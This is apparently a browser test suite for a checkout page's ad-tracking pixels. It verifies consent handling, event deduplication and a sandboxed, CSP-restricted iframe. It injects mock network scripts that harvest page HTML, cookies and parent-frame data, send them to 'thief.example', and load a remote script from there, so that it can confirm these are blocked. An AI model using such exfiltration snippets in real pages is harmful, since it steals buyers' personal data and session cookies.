/**
 * Tests pixels in a real browser, with scripts in place of the networks' own that report what they are told and try to take more: the
 * consent comes first, each event is reported once, and nothing of the buyer or of the page is in reach.
 */
import type { SimulatorHost } from '@feira/plugin-kit/simulation';
import { describe, expect, it } from 'vitest';
import { button, forgive, openContext, PHONE, page } from './browser-page.ts';
import { hasBehaviour } from './checkout-page.ts';
import { setUpStage, stage } from './stage.ts';

const BUYER = { name: 'João Comprador', cpf: '52998224725', phone: '11987654321' };
/** Each purchase is another buyer's: the same one is asked about a second purchase of the same thing. */
let buyers = 0;
const PIXELS = {
  facebook: ['111222333'],
  tiktok: ['CTIKTOK1'],
  kwai: ['444555666'],
  googleAnalyticsId: 'G-FEIRA1',
  googleAdsId: 'AW-777',
  googleAdsConversionApiId: 'label_1',
};

/** Requests that left for the networks, and those that the policy should have stopped. */
let sent: { host: string; text: string }[] = [];

/** Takes over the queue a page has made, as the networks' scripts do, and sends each call on together with everything it can read. */
const takeOver = (host: string, body: string) => `(() => {
  const seen = () => {
    const read = (get) => { try { return String(get()) } catch (error) { return error.name } };
    return [document.documentElement.outerHTML, location.href, document.referrer, document.cookie, window.name,
      read(() => parent.document.title), read(() => parent.localStorage.length), read(() => top.location.href), window.origin].join('|');
  };
  const send = (call) => { new Image().src = 'https://${host}/collect?' + encodeURIComponent(JSON.stringify({ call, seen: seen() })) };
  document.cookie = '_id=1';
  ${body}
})();`;
const TAKE_QUEUE = (name: string) => `
  const queue = window.${name};
  for (const [id, calls] of Object.entries(queue._i)) {
    if (calls.isTaken) continue;
    calls.isTaken = true;
    for (const call of calls) send([id, ...call]);
    calls.track = (...call) => send([id, 'track', ...call]);
  }`;
const SCRIPTS: Record<string, { collect: string; body: string }> = {
  'connect.facebook.net': {
    collect: 'www.facebook.com',
    body: `for (const call of fbq.queue) send(call);
      fbq.callMethod = (...call) => send(call);
      fetch('https://thief.example/?' + encodeURIComponent(seen())).catch(() => {});
      const script = document.createElement('script'); script.src = 'https://thief.example/more.js'; document.head.append(script);`,
  },
  'analytics.tiktok.com': { collect: 'analytics.tiktok.com', body: TAKE_QUEUE('ttq') },
  's1.kwai.net': { collect: 'www.adsnebula.com', body: TAKE_QUEUE('kwaiq') },
  'www.googletagmanager.com': {
    collect: 'www.googletagmanager.com',
    body: `for (const call of dataLayer) send([...call]);
      dataLayer.push = (call) => send([...call]);`,
  },
};

const hostOf = (url: string) => new URL(url).host;

setUpStage({
  look: { viewport: PHONE },
  wantedRefusals: 'none',
  prepare: async (context) => {
    sent = [];
    // Everything outside of this machine ends here.
    await context.route(
      (url) => url.hostname !== 'localhost',
      async (route) => {
        const url = route.request().url();
        const script = SCRIPTS[hostOf(url)];
        sent.push({ host: hostOf(url), text: decodeURIComponent(url) });
        if (script && !url.includes('/collect'))
          await route.fulfill({ contentType: 'text/javascript', body: takeOver(script.collect, script.body) });
        else await route.fulfill({ contentType: 'image/gif', body: '' });
      },
    );
  },
});

async function setPixels(pixels: object): Promise<string> {
  const offer = stage.ids.offers.find('course');
  await stage.query('UPDATE product SET pixels = $2 WHERE id = (SELECT product_id FROM offer WHERE id = $1)', [
    offer,
    JSON.stringify(pixels),
  ]);
  const address = `${stage.url}/checkout/${offer}`;
  const isShown = async () =>
    (await (await fetch(address)).text()).includes('/pixel-frame/') === Object.keys(pixels).length > 0;
  await expect.poll(isShown).toBe(true);
  return address;
}

interface Report {
  host: string;
  call: unknown[];
  seen: string;
}

const reports = (): Report[] =>
  sent
    .filter(({ text }) => text.includes('/collect?'))
    .map(({ host, text }) => ({ host, ...JSON.parse(text.slice(text.indexOf('?') + 1)) }));
/** The names of the events that each network was told, in order. */
const eventsOf = (host: string, pick: (call: unknown[]) => unknown) =>
  reports()
    .filter((report) => report.host === host)
    .map(({ call }) => pick(call))
    .filter((name) => name !== undefined);
const NAMES = {
  facebook: () => eventsOf('www.facebook.com', ([kind, , name]) => (kind === 'trackSingle' ? name : undefined)),
  tiktok: () => eventsOf('analytics.tiktok.com', ([, kind, name]) => (kind === 'track' ? name : undefined)),
  kwai: () => eventsOf('www.adsnebula.com', ([, kind, name]) => (kind === 'track' ? name : undefined)),
  google: () => eventsOf('www.googletagmanager.com', ([kind, name]) => (kind === 'event' ? name : undefined)),
};

async function buyByPix(): Promise<{ saleId: string; transactionId: string }> {
  await page.check('[name=paymentMethod][value=PIX]');
  buyers += 1;
  for (const [name, value] of Object.entries({ ...BUYER, email: `joao${buyers}@example.com` })) {
    const field = page.locator(`[name=${name}]:visible`);
    if (await field.count()) await field.fill(value);
  }
  await page.click('button[type=submit]');
  await page.waitForURL(/\/checkout\/payment\//);
  const [payment] = await stage.query<{ saleId: string; transactionId: string }>(
    `SELECT p.sale_id AS "saleId", a.transaction_id AS "transactionId" FROM payment p JOIN payment_attempt a ON a.payment_id = p.id
     WHERE p.public_id = $1`,
    [new URL(page.url()).pathname.split('/').at(-1)],
  );
  return payment!;
}
const pay = (transactionId: string) => (stage.simulators.get('sandbox') as SimulatorHost).simulator.pay(transactionId);
const consentsOf = (saleId: string) =>
  stage.query<{ context: Record<string, string> }>('SELECT context FROM ad_consent WHERE sale_id = $1', [saleId]);
const bar = () => page.getByRole('region', { name: 'Medição de anúncios' });

/** The thief's requests, which the policy of the frame stops, are complaints that are wanted. */
const forgiveThief = () => {
  for (const text of ['Content Security Policy', 'thief.example']) forgive(text);
};

describe('a checkout with pixels', () => {
  it('asks first: before an answer, and after a refusal, no network hears anything and nothing is kept', async () => {
    const address = await setPixels(PIXELS);
    await page.goto(address);
    await bar().waitFor();
    await expect.poll(() => page.locator('iframe[src*=pixel-frame]').count()).toBe(0);

    const [refuse, accept] = [button('Recusar'), button('Aceitar')];
    const looks = await Promise.all(
      [refuse, accept].map((choice) =>
        choice.evaluate((element) => {
          const { font, color, backgroundColor } = getComputedStyle(element);
          return { font, color, backgroundColor, width: element.getBoundingClientRect().width };
        }),
      ),
    );
    expect(looks[0]).toEqual(looks[1]);
    await refuse.click();
    await page.reload();
    await button('Escolhas sobre anúncios').waitFor();
    await expect.poll(() => bar().count()).toBe(0);
    const { saleId } = await buyByPix();
    await button('Escolhas sobre anúncios').waitFor();

    expect(sent).toEqual([]);
    expect(await consentsOf(saleId)).toEqual([]);
  });

  it('reports each event once to each pixel, and the purchase when it is paid', async () => {
    await page.goto(await setPixels(PIXELS));
    await button('Aceitar').click();
    await expect.poll(() => NAMES.facebook()).toEqual(['InitiateCheckout']);
    const { saleId, transactionId } = await buyByPix();
    expect((await consentsOf(saleId))[0]?.context).toEqual({
      clientId: expect.stringMatching(/^\d+\.\d+$/),
      ip: expect.stringMatching(/^(127\.0\.0\.1|::1)$/),
      userAgent: await page.evaluate(() => navigator.userAgent),
      eventIds: {
        InitiateCheckout: expect.stringMatching(/^[0-9a-f]{32}$/),
        AddPaymentInfo: expect.stringMatching(/^[0-9a-f]{32}$/),
      },
    });
    await button('Escolhas sobre anúncios').waitFor();
    expect(NAMES.facebook()).not.toContain('Purchase');

    await pay(transactionId);
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    await expect.poll(() => NAMES.kwai()).toContain('purchase');
    await page.reload();
    await button('Escolhas sobre anúncios').waitFor();

    expect(NAMES.facebook()).toEqual(['InitiateCheckout', 'AddPaymentInfo', 'Purchase']);
    expect(NAMES.tiktok()).toEqual(['InitiateCheckout', 'AddPaymentInfo', 'Purchase']);
    expect(NAMES.kwai()).toEqual(['initiatedCheckout', 'addPaymentInfo', 'purchase']);
    expect(NAMES.google().sort()).toEqual(['add_payment_info', 'begin_checkout', 'conversion', 'purchase']);
    const purchases = reports().filter(({ call }) =>
      call.some((part) => /^(purchase|conversion)$/i.test(String(part))),
    );
    const [product] = await stage.query<{ id: string }>('SELECT product_id AS id FROM offer WHERE id = $1', [
      stage.ids.offers.find('course'),
    ]);
    expect(purchases).toHaveLength(5);
    for (const { call } of purchases) {
      const text = JSON.stringify(call);
      expect(text).toContain(`"${saleId}"`);
      expect(text).toContain('"value":197');
      expect(text).toContain('"currency":"BRL"');
      if (!text.includes('conversion')) expect(text).toContain(product!.id);
    }
    expect(JSON.stringify(purchases)).toContain('AW-777/label_1');
    forgiveThief();
  });

  it('counts a PIX when its code is made, where the seller wants that, and no second time when it is paid', async () => {
    await page.goto(await setPixels({ facebook: ['111222333'], pixPurchase: 'CREATED' }));
    await button('Aceitar').click();
    const { transactionId } = await buyByPix();
    await expect.poll(() => NAMES.facebook()).toContain('Purchase');

    await pay(transactionId);
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();

    expect(NAMES.facebook().filter((name) => name === 'Purchase')).toHaveLength(1);
    forgiveThief();
  });

  it('runs the scripts where they see nothing of the page, and reach only their own hosts', async () => {
    await page.goto(`${await setPixels({ facebook: ['111222333'] })}?utm_source=mail&fbclid=click1`);
    await button('Aceitar').click();
    await expect.poll(() => NAMES.facebook()).toHaveLength(1);
    const frameUrl = await page.locator('iframe[src*=pixel-frame]').getAttribute('src');
    const { transactionId } = await buyByPix();
    await pay(transactionId);
    await expect.poll(() => NAMES.facebook()).toContain('Purchase');

    for (const { seen } of reports()) {
      for (const secret of [
        ...Object.values(BUYER),
        'Comprador',
        'joao',
        '@example.com',
        'utm_source',
        'click1',
        transactionId,
      ])
        expect(seen).not.toContain(secret);
      expect(seen).toMatch(/\|SecurityError\|SecurityError\|SecurityError\|null$/);
    }
    expect(new Set(sent.map(({ host }) => host))).toEqual(new Set(['connect.facebook.net', 'www.facebook.com']));
    const { headers } = await fetch(`${stage.url}${frameUrl}`);
    const policy = headers.get('content-security-policy');
    expect(policy).toContain('sandbox allow-scripts');
    expect([...new Set(policy!.match(/https:\/\/[\w.*-]+/g))]).toEqual([
      'https://connect.facebook.net',
      'https://www.facebook.com',
    ]);
    forgiveThief();
  });

  it('forgets the consent of a purchase that is withdrawn on its page, and asks each browser anew', async () => {
    const address = await setPixels({ facebook: ['111222333'] });
    await page.goto(address);
    await button('Aceitar').click();
    const { saleId, transactionId } = await buyByPix();
    expect(await consentsOf(saleId)).toHaveLength(1);

    await button('Escolhas sobre anúncios').click();
    await button('Recusar').click();
    await expect.poll(() => consentsOf(saleId)).toEqual([]);
    await pay(transactionId);
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    expect(NAMES.facebook()).not.toContain('Purchase');
    forgiveThief();

    await openContext();
    await page.goto(address);
    await bar().waitFor();
  });
});

describe('a checkout without pixels', () => {
  it('asks nothing', async () => {
    const address = await setPixels({});
    await page.goto(address);
    await hasBehaviour();
    await page.waitForLoadState('networkidle');

    await expect.poll(() => button('Escolhas sobre anúncios').count()).toBe(0);
    expect((await fetch(`${stage.url}/pixel-frame/${stage.ids.offers.find('course')}`)).status).toBe(404);
  });
});
